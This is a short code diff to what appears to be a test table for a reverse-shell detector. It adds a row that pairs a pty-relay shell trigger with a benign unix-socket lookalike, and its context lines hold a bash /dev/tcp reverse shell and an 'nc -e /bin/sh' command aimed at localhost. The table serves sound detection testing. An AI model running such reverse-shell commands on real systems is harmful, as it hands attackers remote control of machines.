@@ -103,6 +103,11 @@ ROWS = [
         trigger="bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/@PORT@ 0>&1'",
         near="@PY@ @S@/actor.py unix-stdio-shell",
         why="a shell on a TCP socket vs a shell on a unix socket (every systemd service)"),
+    Row("reverse-shell", "TA0002 T1059.004",
+        trigger="@PY@ @S@/actor.py pty-relay-shell @PORT@",
+        near="@PY@ @S@/actor.py pty-relay-unix",
+        why="a shell on a pty relayed to a TCP socket by its parent (pty.spawn after dup2, from "
+            "a script file) vs the same relay to a unix socket (a web terminal service)"),
     Row("netcat-exec", "TA0002 T1059.004",
         trigger="nc -e /bin/sh 127.0.0.1 @PORT@",
         near="nc -z -w 1 127.0.0.1 @PORT@",
